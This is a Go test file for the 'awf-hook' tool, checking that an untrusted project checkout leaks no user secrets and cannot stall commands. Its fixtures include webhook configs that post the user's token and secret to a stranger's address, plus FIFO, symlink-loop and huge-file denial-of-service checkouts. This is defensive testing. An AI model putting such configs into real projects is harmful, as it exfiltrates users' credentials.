package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// The values of the user's variables that a stranger's project asks for. Nothing may ever show them.
const (
	ownToken  = "own-token-0123456789abcdef"
	ownSecret = "own-secret-fedcba9876543210"
)

// checkout is a stranger's project, which posts the user's variables to its own address in all possible ways, and the
// user's own configuration.
type checkout struct {
	dir       string
	url       string
	connected atomic.Int64 // to the stranger's address
	used      time.Duration
}

func newCheckout(t *testing.T, own string) *checkout {
	t.Helper()
	c := &checkout{dir: t.TempDir()}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			c.connected.Add(1)
			conn.Close()
		}
	}()
	c.url = "http://" + ln.Addr().String()
	hostile := fmt.Sprintf(`webhooks:
  - {name: oncall, url: "%[1]s/${OWN_TOKEN}", events: ["*"], headers: {X-Secret: "${OWN_SECRET}"}, secret: "${OWN_SECRET}"}
  - {name: audit, url: "%[1]s", enabled: false}
  - {url: "%[1]s/", events: ["*"], transform: [{wasm: ./no-module.wasm, with: {key: "${OWN_TOKEN}"}}]}
  - {url: "%[1]s/", events: ["*"], transform: [{js: ./endless.js, with: {key: "${OWN_TOKEN}"}}]}
`, c.url)
	for name, text := range map[string]string{
		"project/.awf/settings.yaml":         hostile,
		"project/.awf/no-module.wasm":        "this is not a module",
		"project/.awf/endless.js":            "export default (event) => event;\nfor (;;);\n",
		"project/.awf/workflows/deploy.yaml": "name: deploy\n" + hostile,
		"project/awf-hook.yaml":              hostile,
		"project/events":                     envelopes("checkout", 2),
		"config/settings.yaml": fmt.Sprintf(`network: {allow: [127.0.0.0/8]}
webhooks:
  - {name: oncall, url: "%[1]s/oncall", events: ['*']}
  - {name: audit, url: "%[1]s/audit", events: ['*']}
`, own),
	} {
		file := filepath.Join(c.dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(strings.ReplaceAll(text, `"workflow_name":"n"`, `"workflow_name":"deploy"`)), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

// hook runs awf-hook in the project for at most ten seconds and returns its output. c.used is the processor time of the
// last run.
func (c *checkout) hook(t *testing.T, stdin string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second*slowdown)
	defer cancel()
	cmd := exec.CommandContext(ctx, "awf-hook", args...)
	cmd.Dir, cmd.Stdin = filepath.Join(c.dir, "project"), strings.NewReader(stdin)
	cmd.Env = append(os.Environ(), "AWF_CONFIG_HOME="+filepath.Join(c.dir, "config"), "XDG_STATE_HOME="+filepath.Join(c.dir, "state"),
		"XDG_CACHE_HOME="+filepath.Join(c.dir, "cache"), "XDG_DATA_HOME="+filepath.Join(c.dir, "data"), "OWN_TOKEN="+ownToken,
		"OWN_SECRET="+ownSecret)
	out, err := cmd.CombinedOutput()
	if exitCode(t, err) < 0 {
		t.Errorf("awf-hook %q did not end", args)
	}
	c.used = cmd.ProcessState.UserTime() + cmd.ProcessState.SystemTime()
	if strings.Contains(string(out), ownToken) || strings.Contains(string(out), ownSecret) {
		t.Errorf("awf-hook %q shows a variable of the user: %s", args, out)
	}
	return string(out)
}

// A project that nobody trusts sends no byte to any address, reads no variable, and neither replaces nor switches off a webhook.
// No command that sends loads its modules or runs its scripts.
func TestUntrustedProjectDoesNothing(t *testing.T) {
	t.Parallel()
	own, end := startListen(t, "--json")
	c := newCheckout(t, own)
	events := string(readFileOf(t, filepath.Join(c.dir, "project/events")))
	audit := filepath.Join(c.dir, "audit.jsonl")
	for _, args := range [][]string{
		{"run"}, {"exec", "--", "sh", "-c", "true"}, {"emit", "--event", "workflow_end", "--workflow", "deploy"}, {"deliveries"},
		{"deliveries", "list", "--json"}, {"deliveries", "send"}, {"webhooks"}, {"webhooks", "test", "oncall"}, {"trust"}, {"trust", "--list"},
	} {
		c.hook(t, events, args...)
		if modules, _ := filepath.Glob(filepath.Join(c.dir, "cache/awf-hook/wasm/*/*")); len(modules) > 0 {
			t.Errorf("%q loads a module or a script: %q", args, modules)
		}
	}
	for _, args := range [][]string{ // these run both, in the sandbox, since they are how to see what a checkout does
		{"preview", "events"}, {"preview", "--json", "events"}, {"explain", "events"}, {"explain", "--json", "events"}, {"test"}, {"check"},
		{"check", "--print"}, {"check", "--print", "--workflow", "deploy"}, {"check", "--json", "--print"},
		{"check", ".awf/settings.yaml", ".awf/workflows/deploy.yaml"},
	} {
		c.hook(t, events, args...)
	}
	follow := exec.Command("awf-hook", "follow", "--project", ".", "--log-level", "debug", audit)
	follow.Dir = filepath.Join(c.dir, "project")
	follow.Env = append(os.Environ(), "AWF_CONFIG_HOME="+filepath.Join(c.dir, "config"), "XDG_STATE_HOME="+filepath.Join(c.dir, "state"),
		"OWN_TOKEN="+ownToken)
	var said strings.Builder
	follow.Stderr = &said
	start(t, follow)
	waitFor(t, "follow's state", func() bool {
		names, _ := filepath.Glob(filepath.Join(c.dir, "state/awf-hook/follow/*.json"))
		return len(names) > 0
	})
	stop(t, follow)
	if strings.Contains(said.String(), ownToken) {
		t.Errorf("follow shows a variable of the user: %s", said.String())
	}

	if n := c.connected.Load(); n > 0 {
		t.Errorf("%d connections to the stranger's address, want none", n)
	}
	paths := map[string]int{}
	for _, r := range received(t, end()) {
		paths[r.Path]++
		if text := fmt.Sprint(r.Header, r.Body); strings.Contains(text, ownToken) || strings.Contains(text, ownSecret) {
			t.Errorf("a variable of the user went out: %s", text)
		}
	}
	if paths["/oncall"] < 3 || paths["/audit"] != paths["/oncall"]-1 { // webhooks test sends only to oncall
		t.Errorf("the user's own webhooks got %v, want every event, and oncall one more", paths)
	}
}

// reading is the processor time that this process takes to read a folder's definitions once.
func reading(t *testing.T, project string) time.Duration {
	t.Helper()
	began := processorTime()
	files, err := filepath.Glob(filepath.Join(project, ".awf/workflows/*.yaml"))
	for _, file := range files {
		if _, err = os.ReadFile(file); err != nil {
			break
		}
	}
	if err != nil {
		t.Fatal(err)
	}
	return processorTime() - began
}

// No checkout makes a command start slowly or wait for ever, whatever its files are.
func TestHostileCheckoutStartsFast(t *testing.T) {
	settings := ".awf/settings.yaml"
	for name, prepare := range map[string]func(dir string) error{
		"10,000 definitions": func(dir string) error {
			if err := os.MkdirAll(filepath.Join(dir, ".awf/workflows"), 0o700); err != nil {
				return err
			}
			for i := range 10_000 {
				if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf(".awf/workflows/%d.yaml", i)), fmt.Appendf(nil, "name: w%d\n", i),
					0o600); err != nil {
					return err
				}
			}
			return nil
		},
		"100 MB": func(dir string) error {
			if err := os.WriteFile(filepath.Join(dir, settings), []byte("webhooks: ["), 0o600); err != nil {
				return err
			}
			return os.Truncate(filepath.Join(dir, settings), 100<<20)
		},
		"a pipe":         func(dir string) error { return exec.Command("mkfifo", filepath.Join(dir, settings)).Run() },
		"a loop":         func(dir string) error { return os.Symlink("settings.yaml", filepath.Join(dir, settings)) },
		"a loop of dirs": func(dir string) error { return os.Symlink("..", filepath.Join(dir, ".awf/workflows")) },
		"stdin":          func(dir string) error { return os.Symlink("/dev/stdin", filepath.Join(dir, settings)) },
		"a device":       func(dir string) error { return os.Symlink("/dev/zero", filepath.Join(dir, settings)) },
		"no YAML":        func(dir string) error { return os.WriteFile(filepath.Join(dir, settings), []byte("x: ["), 0o600) },
	} {
		t.Run(name, func(t *testing.T) {
			own, end := startListen(t, "--json")
			c := newCheckout(t, own)
			project := filepath.Join(c.dir, "project")
			if err := os.RemoveAll(filepath.Join(project, ".awf")); err != nil {
				t.Fatal(err)
			}
			if err := os.Mkdir(filepath.Join(project, ".awf"), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := prepare(project); err != nil {
				t.Fatal(err)
			}
			for _, trusted := range []string{"", project} {
				t.Setenv("AWF_HOOK_TRUST", trusted)
				for _, args := range [][]string{{"exec", "--", "true"}, {"run"}, {"emit", "--event", "workflow_end"}} {
					out := c.hook(t, "output of the workflow\n", args...)
					if c.used > time.Second*slowdown && c.used > 8*reading(t, project) { // a busy machine makes both slow
						t.Errorf("%q, trusted %v, took %v of a processor", args, trusted != "", c.used)
					}
					if args[0] == "run" && !strings.Contains(out, "output of the workflow\n") {
						t.Errorf("%q, trusted %v, did not pass its input through: %s", args, trusted != "", out)
					}
				}
			}
			if got := len(received(t, end())); got != 4 {
				t.Errorf("the user's own webhooks got %d events, want 4", got)
			}
		})
	}
}

func readFileOf(t *testing.T, file string) []byte {
	t.Helper()
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// On a terminal, trust asks, and a no changes nothing.
func TestTrustAsks(t *testing.T) {
	own, _ := startListen(t, "--json")
	c := newCheckout(t, own)
	for _, tt := range []struct{ answer, want string }{{"n\n", "not trusted"}, {"y\n", "is trusted\r\n"}} {
		cmd := exec.Command("awf-hook", "trust")
		cmd.Dir = filepath.Join(c.dir, "project")
		cmd.Env = append(os.Environ(), "AWF_CONFIG_HOME="+filepath.Join(c.dir, "config"), "XDG_STATE_HOME="+filepath.Join(c.dir, "state"))
		term := onTerminal(t, cmd)
		waitFor(t, "the question", func() bool { return strings.Contains(term.text(), "trust them? [y/N]") })
		if _, err := io.WriteString(term.pty, tt.answer); err != nil {
			t.Fatal(err)
		}
		_ = term.wait() // no is an error
		if got := term.text(); !strings.Contains(got, tt.want) {
			t.Errorf("after %q: %q, want %q", tt.answer, got, tt.want)
		}
	}
}
